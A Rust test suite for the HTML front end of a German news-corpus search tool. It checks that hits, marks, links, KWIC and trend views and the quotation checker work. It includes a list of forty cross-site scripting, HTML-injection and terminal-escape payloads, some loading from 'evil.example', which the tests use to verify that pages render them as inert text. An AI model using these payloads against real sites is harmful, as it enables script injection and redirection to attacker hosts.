//! The page shows what the terminal shows, without JavaScript, and nothing from an article acts in it.

use std::fs;

use serde_json::Value;

use crate::http::{Reply, Server, encoded, of_corpus};
use crate::page_text::{between, links, text_of, unescaped};
use crate::support::{Sandbox, corpus, marked};

fn ok(server: &Server, path: &str) -> String {
    let reply = server.get(path.split('#').next().unwrap());
    assert_eq!(reply.status, 200, "{path}: {}", reply.text());
    assert_eq!(reply.header("content-type"), Some("text/html; charset=utf-8"));
    reply.text()
}

/// Headlines and sentences of the hits of a page, and of the terminal.
fn hits_of_page(page: &str) -> Vec<(String, String)> {
    let titles = between(page, "<article><h2>", "</h2>").into_iter().map(text_of);
    titles.zip(between(page, "<p class=\"text\">", "</p>").into_iter().map(text_of)).collect()
}

fn hits_of_terminal(sandbox: &Sandbox, query: &str) -> Vec<(String, String)> {
    let text = sandbox.run(&["search", "--format", "text", "--", query]).out;
    let title = |line: &str| line.split_once(". ").unwrap().1.split(" · ").next().unwrap().to_owned();
    // The first line says how many there are.
    let hits = text.trim_end().split("\n\n").skip(1).filter(|hit| !hit.is_empty());
    hits.map(|hit| {
        let lines: Vec<&str> = hit.lines().collect();
        (title(lines[0]), lines[1].trim().to_owned())
    })
    .collect()
}

#[test]
fn hits_and_marks_are_those_of_the_terminal() {
    let sandbox = Sandbox::new();
    assert_eq!(sandbox.run(&["index", corpus().join("variants/articles.jsonl").to_str().unwrap()]).code, 0);
    let server = Server::start(&sandbox, &[]);
    let mut compared = 0;
    let pairs = fs::read_to_string(corpus().join("variants/pairs.tsv")).unwrap();
    for (number, query) in pairs.lines().map(|line| line.split('\t').nth(1).unwrap()).enumerate() {
        // All queries in an optimised program; every third in a slow one.
        if cfg!(debug_assertions) && number % 3 > 0 {
            continue;
        }
        let page = ok(&server, &format!("/?q={}", encoded(query)));
        let terminal = hits_of_terminal(&sandbox, query);
        assert_eq!(hits_of_page(&page), terminal, "{query}");
        compared += terminal.len();
    }
    assert!(compared > 100, "{compared}");
}

#[test]
fn an_article_has_all_its_matches_marked() {
    let sandbox = of_corpus();
    let server = Server::start(&sandbox, &[]);
    let page = ok(&server, "/a/dl-1%232?q=Kasse&lang=de");
    let json = &sandbox.run(&["show", "--json", "dl-1#2", "Kasse"]).json()[0];
    let of_text: Vec<String> = json["passages"].as_array().unwrap().iter().flat_map(marked).collect();
    let numbered = between(&page, "<mark id=\"m", "</mark>");
    let shown: Vec<&str> = numbered.iter().map(|mark| mark.split_once('>').unwrap().1).collect();
    assert_eq!(shown, of_text);
    assert_eq!(links(&page, "BibTeX"), ["/api/cite?id=dl-1%232&style=bibtex"]);
    assert!(
        page.contains("<p id=\"p1\">")
            && page.contains("<p class=\"asked\" id=\"p4\">")
            && page.contains("href=\"#m2\""),
        "{page}"
    );
    let citation = text_of(between(&page, "<p class=\"citation\">", "</p>")[0]);
    assert!(citation.contains("Wiekhafener Tageblatt: „Hackerangriff") && citation.ends_with("[dl-1#2]"), "{citation}");
    let body: String = between(&page, "¶</a>", "</p>").into_iter().map(text_of).collect::<Vec<_>>().join("\n");
    let unmarked = |text: &str| text.replace(['«', '»', ' ', '\n'], "");
    let passages = json["passages"].as_array().unwrap().iter().map(|passage| passage["text"].as_str().unwrap());
    assert_eq!(unmarked(&body), unmarked(&passages.collect::<String>()));
}

#[test]
fn everything_is_reached_by_links() {
    let sandbox = of_corpus();
    let server = Server::start(&sandbox, &[]);
    let start = ok(&server, "/?lang=de");
    assert!(start.contains("<form role=\"search\" action=\"/\" method=\"get\">"));
    let list = ok(&server, "/?q=Kasse&sort=relevance&source=&lang=de");
    let facet = links(&list, "Nordküsten-Kurier");
    let narrowed = ok(&server, &facet[0]);
    assert!(
        narrowed.contains("Quelle: Nordküsten-Kurier") && hits_of_page(&narrowed).len() < hits_of_page(&list).len() + 1
    );
    let chip = links(&narrowed, "Quelle: Nordküsten-Kurier");
    assert_eq!(hits_of_page(&ok(&server, &chip[0])), hits_of_page(&list));
    let period = |page: &str, period: &str| {
        let wanted = format!("since={period}&until={period}");
        links(page, period)
            .into_iter()
            .find(|link| link.contains(&wanted))
            .unwrap_or_else(|| panic!("{period}: {page}"))
    };
    let year = ok(&server, &period(&list, "2021"));
    let month = ok(&server, &period(&year, "2021-03"));
    assert!(ok(&server, &period(&month, "2021-03-18")).contains("18.03.2021"));
    let second = ok(&server, &links(&list, "Weitere Treffer")[0]);
    assert!(second.contains("start=\"11\"") && hits_of_page(&second)[0] != hits_of_page(&list)[0]);
    assert_eq!(hits_of_page(&ok(&server, &links(&second, "Vorige Treffer")[0])), hits_of_page(&list));
    let article = ok(&server, &links(&list, "Absatz")[0]);
    assert!(article.contains("Ähnliche Artikel") && links(&article, "Zur Trefferliste").len() == 1);
    assert_eq!(server.get(&links(&article, "RIS")[0]).status, 200);
    assert!(ok(&server, &links(&list, "English")[0]).contains("<html lang=\"en\""));
    assert!(ok(&server, &links(&list, "dunkel")[0]).contains("class=\"dark\""));
    let exact = links(&list, "nur =Kasse");
    assert!(ok(&server, &exact[0]).contains("=Kasse"), "{exact:?}");
    for (name, media) in [("CSV", "text/csv"), ("JSON", "application/json"), ("RSS", "application/rss+xml")] {
        let reply = server.get(&links(&list, name)[0]);
        assert!(reply.status == 200 && reply.header("content-type").unwrap().starts_with(media), "{name}");
    }
    let accepted = server.send("GET", "/?q=Kasse", &[("Accept-Language", "de-AT,de;q=0.7")], "").text();
    assert!(accepted.contains("<html lang=\"de\""));
}

#[test]
fn a_query_has_other_views() {
    let sandbox = of_corpus();
    let server = Server::start(&sandbox, &[]);
    let list = ok(&server, "/?q=Streik&since=2018&lang=de");
    let kwic = ok(&server, &links(&list, "Im Kontext")[0]);
    let cells = |class: &str| between(&kwic, &format!("<td class=\"{class}\">"), "</td>").into_iter().map(text_of);
    let lines: Vec<(String, String)> = cells("match").zip(cells("after")).collect();
    let api = server.get("/api/kwic?q=Streik&since=2018&limit=20").json();
    let text = |line: &Value, name: &str| line[name].as_str().unwrap().to_owned();
    let expected: Vec<(String, String)> = api["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|line| (format!("«{}»", text(line, "match")), text(line, "right")))
        .collect();
    // The page ends with a whole word.
    let same = lines.iter().zip(&expected).all(|(line, full)| line.0 == full.0 && full.1.starts_with(&line.1));
    assert!(same && lines.len() == expected.len(), "{lines:?} {expected:?}");
    assert!(lines.len() > 5 && ok(&server, &links(&kwic, "Streik")[1]).contains("<mark id="));
    let trend = ok(&server, &format!("{}&q2=Bahn", links(&list, "Verlauf")[0]));
    let curve = server.get("/api/trend?q=Streik&since=2018").json();
    let year =
        curve["periods"].as_array().unwrap().iter().find(|period| period["articles"].as_u64() > Some(0)).unwrap();
    let label = format!("Streik, {}: {} Artikel", year["period"].as_str().unwrap(), year["articles"]);
    assert!(trend.contains(&label), "{label}: {trend}");
    assert_eq!(trend.matches("<polyline").count(), 2);
    // Queries with dates of their own have their points at these.
    let apart = ok(&server, "/trend?q=Streik+date:2018&q2=Streik+date:2022&lang=de");
    for label in ["Streik date:2018, 2018-", "Streik date:2022, 2022-"] {
        assert!(apart.contains(&format!("aria-label=\"{label}")), "{label}: {apart}");
    }
    assert!(!apart.contains("date:2018, 2022") && !apart.contains("date:2022, 2018"));
    assert!(ok(&server, "/trend?q=Streik+source:nix&q2=Streik&lang=de").contains("<polyline"));
    let point = links(&trend, "Bahn, ");
    assert!(ok(&server, &point[0]).contains("value=\"Bahn\""), "{point:?}");
    for path in ["/kwic", "/trend", "/check"] {
        assert!(ok(&server, path).contains("aria-current=\"page\""));
    }
}

#[test]
fn quotations_of_a_pasted_text_are_checked() {
    let sandbox = of_corpus();
    let server = Server::start(&sandbox, &[]);
    let quoted = "Die Bahn bietet bisher 3,2 Prozent, verteilt auf 24 Monate.";
    let text = format!("„{quoted}“ und „{}“ <b>", quoted.replace("3,2", "5,2"));
    let form = [("Content-Type", "application/x-www-form-urlencoded"), ("Accept", "text/html")];
    let reply = server.send("POST", "/check", &form, &format!("lang=de&text={}", encoded(&text)));
    assert_eq!(reply.status, 200, "{}", reply.text());
    let page = reply.text();
    assert!(page.contains("1 wörtlich belegt, 1 abweichend"), "{page}");
    assert!(page.contains("<del>5,2</del> <ins>3,2</ins>") && page.contains("&lt;b&gt;</textarea>"), "{page}");
    assert!(ok(&server, &links(&page, "Warnstreik")[0]).contains("¶"));
    let json = server.send("POST", "/check", &[("Content-Type", "application/json")], "{}");
    assert_eq!(json.status, 415);
    assert!(ok(&server, "/check?text=Ohne+Zitat&lang=de").contains("enthält kein Zitat"));
}

#[test]
fn copies_and_what_they_changed_are_one_click_away() {
    let sandbox = Sandbox::with(&[(
        "a.jsonl",
        &["2018-01-02 Bote", "2018-01-03 Kurier"]
            .map(|from| {
                let (date, source) = from.split_once(' ').unwrap();
                let end = if source == "Bote" { "Die Züge standen still." } else { "Alle Züge fuhren wieder." };
                let text = "Die Lokführer der Elstertalbahn haben am Montag für zwölf Stunden die Arbeit niedergelegt, \
                            teilte ihre Gewerkschaft in Plauen mit. Sie verlangen fünf Prozent mehr Lohn und freie Wochenenden.";
                let article = serde_json::json!({"id": source, "title": "Streik", "date": date, "source": source, "text": format!("{text} {end}")});
                format!("{article}\n")
            })
            .concat(),
    )]);
    sandbox.index();
    let server = Server::start(&sandbox, &[]);
    let list = ok(&server, "/?q=Lokführer".replace('ü', "%C3%BC").as_str());
    let link = links(&list, "near-identical");
    let article = ok(&server, &link[0]);
    assert!(link[0].ends_with("#copies") && article.contains("id=\"copies\""), "{link:?}");
    assert!(
        article.contains("<del>")
            && article.contains("Alle Züge fuhren wieder.")
            && article.contains("Die Züge standen still.")
    );
}

/// Texts that a page must not take for anything but text.
pub(crate) const HOSTILE: [&str; 40] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "</title><script>alert(1)</script>",
    "<a href=\"javascript:alert(1)\">Bahn</a>",
    "' onmouseover='alert(1)",
    "\u{202e}gnp.exe",
    "a\u{1b}[31mrot\u{7}",
    "<!-- --><style>body{display:none}</style>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "&lt;script&gt;&amp;",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>los</button></form>",
    "<a href=data:text/html,<script>alert(1)</script>>klick</a>",
    "JaVaScRiPt:alert(1)//",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "</textarea><script>alert(1)</script>",
    "</mark></p></article><h1>fremd</h1>",
    "\" autofocus onfocus=\"alert(1)",
    "' style='position:fixed",
    "\u{2066}abc\u{2069}\u{200f}",
    "\u{2028}alert(1)\u{2029}",
    "\u{85}\u{9b}31m\u{7f}",
    "\u{1b}]8;;https://evil.example\u{7}klick\u{1b}]8;;\u{7}",
    "\u{feff}\u{200b}\u{ad}leer",
    "]]><![CDATA[<script>alert(1)</script>",
];

#[test]
fn texts_of_articles_are_text() {
    let line = |(number, text): (usize, &&str)| {
        let object = serde_json::json!({
            "id": format!("{text}{number}"), "title": format!("Bahn {text}"), "source": text, "section": text,
            "date": "2018-04-21", "text": format!("Die Bahn meldet {text} und fährt weiter nach Plauen."),
        });
        format!("{object}\n")
    };
    let sandbox = Sandbox::with(&[("a.jsonl", &HOSTILE.iter().enumerate().map(line).collect::<String>())]);
    sandbox.index();
    let server = Server::start(&sandbox, &[]);
    let lists = ["", "&offset=10", "&offset=20", "&offset=30", "&sort=date"];
    let mut pages: Vec<String> = lists.iter().map(|rest| ok(&server, &format!("/?q=Bahn{rest}"))).collect();
    for (id, article) in
        pages.concat().split("href=\"/a/").skip(1).map(|rest| rest.split('"').next().unwrap()).enumerate()
    {
        if id % 4 == 0 {
            pages.push(ok(&server, &format!("/a/{}", unescaped(article))));
        }
    }
    pages.push(ok(&server, "/kwic?q=Bahn"));
    for text in HOSTILE {
        pages.push(server.get(&format!("/trend?q=Bahn&q2={}", encoded(text))).text());
        pages.push(ok(
            &server,
            &format!("/check?text={}", encoded(&format!("„Die Bahn meldet {text} und fährt weiter“"))),
        ));
        pages.push(ok(&server, &format!("/?q={}&source={}", encoded("Bahn"), encoded(text))));
        let reply = server.get(&format!("/?q={}", encoded(text)));
        assert!(matches!(reply.status, 200 | 400), "{text}: {}", reply.status);
        pages.push(reply.text());
    }
    for page in &pages {
        // The script is a file of our own.
        let page = &page.replacen("<script src=\"/script.js\" defer></script>", "", 1);
        for element in between(page, "<", ">") {
            let name = element.trim_start_matches('/').split([' ', '/']).next().unwrap();
            assert!(!matches!(name, "script" | "img" | "style" | "iframe" | "object" | "base"), "{element}");
            // A value is closed by the quotation mark that opened it, and holds none.
            let attributes: String = element.split('"').step_by(2).collect();
            assert!(!attributes.contains(" on") && !attributes.contains("style="), "{element}");
            assert!(!element.contains("href=\"javascript") && !element.contains("href=\"http"), "{element}");
        }
        // Values of the form stay as they were typed; all else is visible.
        let typed = between(page, "</textarea>", "\u{0}").first().copied();
        let shown: String = typed
            .unwrap_or(page)
            .split(" value=\"")
            .map(|part| part.split_once("\">").map_or(part, |(_, rest)| rest))
            .collect();
        assert!(!shown.contains(['\u{202e}', '\u{1b}', '\u{7}']), "{shown}");
    }
}

#[test]
fn errors_are_pages_with_a_caret() {
    let sandbox = of_corpus();
    let server = Server::start(&sandbox, &[]);
    let page = |path: &str, language: &str| -> Reply {
        server.send("GET", path, &[("Accept", "text/html"), ("Accept-Language", language)], "")
    };
    let wrong = page("/?q=Stra%C3%9Fe+UND+(Bahn", "de");
    assert_eq!((wrong.status, wrong.header("content-type")), (400, Some("text/html; charset=utf-8")));
    let text = wrong.text();
    assert!(
        text.contains("role=\"alert\"") && text.contains("Klammer") && text.contains("value=\"Straße UND (Bahn\""),
        "{text}"
    );
    assert!(text.contains("Straße UND (Bahn\n           <span>^</span>"), "{text}");
    assert!(page("/?q=(a", "en").text().contains("bracket"));
    let kept = page("/?q=(a&lang=de&theme=dark&source=dpa", "en").text();
    assert!(kept.contains("lang=\"de\"") && kept.contains("Klammer") && kept.contains("dpa"), "{kept}");
    let day = page("/?q=Bahn&since=gestern&lang=de", "en").text();
    assert!(day.contains("value=\"Bahn\"") && day.contains("lang=\"de\""), "{day}");
    for path in ["/a/gibt-es-nicht", "/gibt/es/nicht"] {
        let missing = page(path, "de");
        assert_eq!((missing.status, missing.header("content-type")), (404, Some("text/html; charset=utf-8")), "{path}");
    }
    assert!(page("/?q=Quastenflosser", "de").text().contains("Nichts gefunden."));
    assert_eq!(page("/?q=a&sort=quer", "de").status, 400);
    let compared = page("/trend?q=Bahn&q2=(Bus", "de").text();
    assert!(compared.contains("action=\"/trend\"") && compared.contains("id=\"q2\""), "{compared}");
}

#[test]
fn the_page_is_small_and_needs_nobody_else() {
    let sandbox = of_corpus();
    let server = Server::start(&sandbox, &[]);
    let bytes = |path: &str| server.get(path).body.len();
    assert!(bytes("/") + bytes("/style.css") + bytes("/script.js") < 60_000);
    for path in ["/", "/?q=Streik", "/a/dl-1", "/style.css", "/script.js", "/icon.svg", "/robots.txt"] {
        let reply = server.get(path);
        assert_eq!(reply.status, 200, "{path}");
        let text = reply.text().replace("http://www.w3.org/2000/svg", "");
        assert!(!text.contains("http://") && !text.contains("https://") && !text.contains("@import"), "{path}");
        assert_eq!(reply.header("set-cookie"), None);
        let policy = reply.header("content-security-policy").unwrap();
        assert!(policy.starts_with("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
    }
    let search: Value = server.get("/openapi.json").json()["paths"]["/"].clone();
    assert!(search["get"]["responses"]["200"]["content"]["text/html"].is_object());
    assert!(server.get("/opensearch.xml").text().contains("{searchTerms}"));
}

#[test]
fn the_start_page_lists_the_saved_searches() {
    let sandbox = of_corpus();
    let server = Server::start(&sandbox, &[]);
    assert!(!ok(&server, "/?lang=de").contains("Gespeicherte Suchen"));
    sandbox.run(&["watch", "add", "Streik & <Bahn>", "Bahn UND Streik", "--index", "index"]);
    let start = ok(&server, "/?lang=de");
    assert!(text_of(&start).contains("Gespeicherte Suchen"));
    assert_eq!(links(&start, "Streik & <Bahn>"), ["/?q=Bahn+UND+Streik&sort=date&lang=de"]);
    let feeds = links(&start, "RSS");
    assert_eq!(feeds, ["/api/search?q=Bahn+UND+Streik&sort=date&format=rss"]);
    assert_eq!(server.get(&feeds[0]).status, 200);
    sandbox.run(&["watch", "add", "seit 2018", "Streik", "--since", "2018", "--index", "index"]);
    let restricted = links(&ok(&server, "/?lang=de"), "seit 2018");
    assert!(restricted[0].contains("q=Streik") && restricted[0].contains("since=2018"), "{restricted:?}");
    // It has no tag: the searches change without a commit.
    assert_eq!(server.get("/").header("etag"), None);
}
